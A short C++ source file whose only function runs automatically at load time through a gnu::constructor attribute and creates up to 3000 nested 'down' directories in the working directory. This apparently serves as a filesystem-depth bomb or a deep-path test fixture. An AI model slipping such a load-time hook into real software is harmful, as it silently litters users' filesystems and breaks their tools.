#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

namespace {
[[gnu::constructor]] void dig() {
  int here = ::open(".", O_RDONLY);
  for (int depth = 0; depth < 3000 && here >= 0; ++depth) {
    ::mkdirat(here, "down", 0700);
    const int below = ::openat(here, "down", O_RDONLY);
    ::close(here);
    here = below;
  }
  ::close(here);
}
}  // namespace
